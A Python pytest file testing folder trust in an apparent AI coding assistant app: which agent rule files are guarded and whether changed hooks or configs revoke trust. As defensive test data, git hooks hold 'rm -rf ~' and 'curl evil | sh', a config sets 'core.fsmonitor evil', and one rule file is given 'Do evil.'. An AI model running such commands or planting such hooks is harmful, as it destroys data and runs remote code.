"""Trust in a folder: what it is about, what is kept, and what is asked again."""

from __future__ import annotations

import json
import os
import shutil
import sys
from pathlib import Path

import pytest

from copilot_desktop.errors import NewerStoreError, StoreError
from copilot_desktop.workspace.paths import Workspace
from copilot_desktop.workspace.trust.folder_trust import FolderTrust
from copilot_desktop.workspace.trust.guarded import is_guarded
from copilot_desktop.workspace.trust.store import TrustStore, follow_rename
from copilot_desktop.workspace.trust.values import Decision
from tests.support.git_repository import GitFolder

posix = pytest.mark.skipif(sys.platform == "win32", reason="hooks of these tests are told by their mode")


@pytest.fixture
def project(tmp_path: Path) -> GitFolder:
    made = GitFolder(tmp_path / "project")
    made.write("AGENTS.md", "Use tabs.\n")
    made.write("src/AGENTS.md", "Use blanks here.\n")
    made.write(".copilot/rules/style.md", "Short lines.\n")
    made.write(".copilotignore", "secret\n")
    made.commit("First")
    return made


def trust_of(project: GitFolder) -> FolderTrust:
    return FolderTrust(Workspace(project.root), project.root.parent / "state")


def hook(project: GitFolder, text: str = "true") -> None:
    project.write(".git/hooks/pre-commit", f"#!/bin/sh\n{text}\n").chmod(0o755)


@pytest.mark.parametrize(
    ("path", "is_one"),
    [
        ("AGENTS.md", True),
        ("a/b/CLAUDE.md", True),
        (".cursorrules", True),
        ("a/.cursorrules", False),
        (".cursor/rules/a/b.mdc", True),
        (".cursor/rules/notes.txt", False),
        (".github/copilot-instructions.md", True),
        (".copilot/settings.json", True),
        (".copilotignore", False),
        (".editorconfig", False),
        ("README.md", False),
    ],
)
def test_what_trust_is_about(path: str, is_one: bool) -> None:
    assert is_guarded(path) is is_one


def test_a_new_folder_is_restricted_and_says_what_it_has(project: GitFolder) -> None:
    state = trust_of(project).state()
    assert state.decision is Decision.UNDECIDED
    assert state.found == (".copilot/rules/style.md", "AGENTS.md")
    assert trust_of(project).agreed() == {}
    assert not trust_of(project).runs_programs()
    assert trust_of(project).restrict().decision is Decision.RESTRICTED
    assert not trust_of(project).state().is_trusted


def test_what_was_agreed_to_holds_until_it_changes(project: GitFolder) -> None:
    assert trust_of(project).trust().changes == ()
    assert set(trust_of(project).agreed()) == {".copilot/rules/style.md", "AGENTS.md", "src/AGENTS.md"}
    project.write("src/AGENTS.md", "Do evil.\n")
    project.write("CLAUDE.md", "New.\n")
    (project.root / "AGENTS.md").unlink()
    new, changed = trust_of(project).state().changes
    assert (new.name, new.old) == ("CLAUDE.md", None)
    assert changed.old is not None
    assert changed.new is not None
    assert (changed.old.text, changed.new.text) == ("Use blanks here.\n", "Do evil.\n")
    # What is agreed to is what was shown, not what stands there by then.
    project.write("CLAUDE.md", "Newer.\n")
    (left,) = trust_of(project).agree((new, changed)).changes
    assert left.old is not None
    assert left.old.text == "New.\n"


def test_rule_files_that_are_found_later_are_asked_about(project: GitFolder) -> None:
    trust_of(project).trust()
    project.write("lib/AGENTS.md", "Below.\n")
    assert trust_of(project).state().changes == ()
    assert [each.name for each in trust_of(project).state(("lib/AGENTS.md",)).changes] == ["lib/AGENTS.md"]


@posix
def test_programs_of_the_repository_are_agreed_to_as_they_stand(project: GitFolder) -> None:
    hook(project)
    project.git("config", "filter.x.clean", "cat")
    project.git("config", "user.signingkey", "none")
    trust_of(project).trust()
    assert trust_of(project).runs_programs()
    agreed = trust_of(project).agreed()[".git/config"]
    assert agreed.text == "filter.x.clean = cat\n"
    hook(project, "rm -rf ~")
    assert not trust_of(project).runs_programs()
    (change,) = trust_of(project).state().changes
    assert change.name == ".git/hooks/pre-commit"
    trust_of(project).agree((change,))
    assert trust_of(project).runs_programs()
    project.git("config", "core.fsmonitor", "evil")
    assert not trust_of(project).runs_programs()
    assert [each.name for each in trust_of(project).state().changes] == [".git/config"]


@posix
def test_hooks_in_a_folder_of_the_project_count(project: GitFolder) -> None:
    project.write(".husky/_/pre-commit", "#!/bin/sh\n. x\n").chmod(0o755)
    project.write(".husky/pre-commit", "npm test\n")
    project.git("config", "core.hooksPath", ".husky/_")
    trust_of(project).trust()
    project.write(".husky/pre-commit", "curl evil | sh\n")
    assert not trust_of(project).runs_programs()
    assert [each.name for each in trust_of(project).state().changes] == [".husky/pre-commit"]


@posix
def test_a_link_in_a_circle_hides_no_hooks(project: GitFolder) -> None:
    (project.root / ".git/hooks").mkdir(exist_ok=True)
    (project.root / ".git/hooks/self").symlink_to("self")
    hook(project)
    trust_of(project).trust()
    hook(project, "curl evil | sh")
    assert not trust_of(project).runs_programs()
    assert [each.name for each in trust_of(project).state().changes] == [".git/hooks/pre-commit"]


def test_another_folder_of_the_name_is_not_trusted(project: GitFolder) -> None:
    trust_of(project).trust()
    shutil.copytree(project.root, project.root.with_name("copy"))
    # Kept, so that its number is not given to the new one.
    project.root.rename(project.root.with_name("before"))
    project.root.with_name("copy").rename(project.root)
    assert trust_of(project).state().decision is Decision.UNDECIDED
    assert trust_of(project).agreed() == {}


def test_trust_follows_a_renamed_folder(project: GitFolder, tmp_path: Path) -> None:
    trust_of(project).trust()
    target = tmp_path / "renamed"
    project.root.rename(target)
    follow_rename(tmp_path / "state", project.root, target)
    assert FolderTrust(Workspace(target), tmp_path / "state").state().is_trusted


def test_a_link_out_of_the_folder_is_no_rule_file(project: GitFolder, tmp_path: Path) -> None:
    (tmp_path / "outside.md").write_text("Outside.\n")
    try:
        os.symlink(tmp_path / "outside.md", project.root / "CLAUDE.md")
    except OSError:
        pytest.skip("links cannot be made here")
    assert "CLAUDE.md" not in trust_of(project).state().found


def kept(project: GitFolder) -> Path:
    return next((project.root.parent / "state" / "trust").glob("*.json"))


def test_version_1_is_read(project: GitFolder) -> None:
    trust_of(project).trust()
    values = json.loads(kept(project).read_bytes())
    assert (values["version"], values["decision"]) == (1, "trusted")
    values["seen"] = {"AGENTS.md": ["a hash", None], "CLAUDE.md": ["another", "Text\n"]}
    kept(project).write_text(json.dumps(values))
    found = trust_of(project).agreed()
    assert {name: (each.digest, each.text) for name, each in found.items()} == {
        "AGENTS.md": ("a hash", None),
        "CLAUDE.md": ("another", "Text\n"),
    }


def test_a_newer_or_damaged_file_means_restricted(project: GitFolder) -> None:
    trust_of(project).trust()
    newer = kept(project).read_text().replace('"version": 1', '"version": 2')
    kept(project).write_text(newer)
    state = trust_of(project).state()
    assert not state.is_trusted
    assert "newer version" in state.problem
    with pytest.raises(NewerStoreError):
        trust_of(project).trust()
    assert kept(project).read_text() == newer
    kept(project).write_text("{")
    assert "damaged" in trust_of(project).state().problem
    with pytest.raises(StoreError):
        TrustStore(project.root.parent / "state", Workspace(project.root).root).load()
    assert trust_of(project).trust().is_trusted
    assert kept(project).with_suffix(".damaged").read_text() == "{"
    if sys.platform != "win32":
        assert kept(project).stat().st_mode & 0o777 == 0o600
